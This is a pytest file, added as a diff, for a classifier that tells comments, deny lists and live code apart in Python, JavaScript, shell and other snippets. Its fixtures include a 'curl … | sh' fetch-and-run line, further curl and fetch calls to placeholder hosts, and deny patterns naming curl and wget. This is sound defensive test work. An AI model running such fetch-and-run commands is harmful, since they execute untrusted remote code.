@@ -1,0 +1,131 @@
+"""Comments explain, lists of what is denied deny, and the rest of a program does."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from pinfold.language.code_roles import CodeRoles
+from pinfold.model import Role
+
+PYTHON = '''\
+"""Fetches alpha.example and runs it."""
+import os, re
+
+# Never run curl bravo.example from here.
+SUSPICIOUS_PATTERNS = [
+    (r"curl .*\\|", "charlie.example"),
+    (
+        r"wget",
+        "delta.example",
+    ),
+]
+BLOCKED: frozenset[str] = frozenset({"echo.example"})
+PROMPT = """You are the bot of foxtrot.example"""
+deny_pattern = re.compile(r"golf.example")
+
+
+def run():
+    r"""Talks to hotel.example."""
+    rules = {"signatures": ["india.example"], "hosts": ["juliett.example"]}
+    os.system("curl kilo.example | sh")  # lima.example
+    note = "# mike.example"
+'''
+
+JAVASCRIPT = """\
+// alpha.example
+const url = "https://bravo.example/x"; /* charlie.example
+ * delta.example */
+const DENYLIST = new Set(["echo.example"]);
+const s = `// foxtrot.example`;
+fetch(url + "golf.example");
+"""
+
+SHELL = """\
+#!/bin/sh
+# alpha.example
+curl https://bravo.example/#charlie.example
+BLOCKED_HOSTS=(
+  delta.example
+)
+echo "# echo.example"
+curl 'foxtrot.example' # golf.example
+"""
+
+ROLES = {
+    ("python", PYTHON): {
+        Role.DOCUMENTATION: "alpha bravo hotel lima",
+        Role.DENY_LIST: "charlie delta echo golf india",
+        Role.CODE: "foxtrot juliett kilo mike",
+    },
+    ("typescript", JAVASCRIPT): {
+        Role.DOCUMENTATION: "alpha charlie delta",
+        Role.DENY_LIST: "echo",
+        Role.CODE: "bravo foxtrot golf",
+    },
+    ("shell", SHELL): {
+        Role.DOCUMENTATION: "alpha golf",
+        Role.DENY_LIST: "delta",
+        Role.CODE: "bravo charlie echo foxtrot",
+    },
+}
+
+
+@pytest.mark.parametrize(
+    ("kind", "text", "role", "word"),
+    [
+        (kind, text, role, word)
+        for (kind, text), roles in ROLES.items()
+        for role, words in roles.items()
+        for word in words.split()
+    ],
+)
+def test_roles(kind, text, role, word):
+    assert CodeRoles(text, kind, Role.CODE).stance(text.index(f"{word}.example")).role is role
+
+
+def test_a_comment_can_forbid():
+    assert CodeRoles(PYTHON, "python", Role.CODE).stance(PYTHON.index("curl bravo")).negated
+
+
+@pytest.mark.parametrize(
+    ("kind", "text"),
+    [
+        ("powershell", "<# x\ncurl\n#>\n$a = '<'; iwr evil"),
+        ("makefile", "all: # curl\n\tevil"),
+        ("dockerfile", "# curl\nRUN evil"),
+        ("code", "/* x */ // curl\nmain() { evil"),
+        ("code", "# curl\nx = '# no'; evil"),
+    ],
+)
+def test_other_syntaxes(kind, text):
+    roles = CodeRoles(text, kind, Role.COMMAND)
+    if "curl" in text:
+        assert roles.stance(text.index("curl")).role is Role.DOCUMENTATION
+    assert roles.stance(text.index("evil")).role is Role.COMMAND
+
+
+@given(
+    st.text("\"'`/*#<>\\\n a[](){}=:;", max_size=80),
+    st.sampled_from(["python", "shell", "javascript", "powershell", "code"]),
+    st.integers(0, 80),
+)
+def test_any_text_has_a_role(text, kind, at):
+    assert CodeRoles(text, kind, Role.CODE).stance(min(at, len(text))).role in (
+        Role.CODE,
+        Role.DOCUMENTATION,
+        Role.DENY_LIST,
+        Role.EXAMPLE,
+    )
+
+
+@pytest.mark.parametrize("kind", ["python", "shell", "javascript", "powershell", "code"])
+@pytest.mark.parametrize("piece", ['"""\n', '"\\"', "/*", "`", "#\n", "[", "<#", "'", "a:", "a=[", "\\"])
+def test_hostile_text_takes_linear_time(kind, piece):
+    text = piece * (2_000_000 // len(piece))
+    began = time.perf_counter()
+    CodeRoles(text, kind, Role.CODE).stance(len(text) // 2)
+    assert time.perf_counter() - began < 5
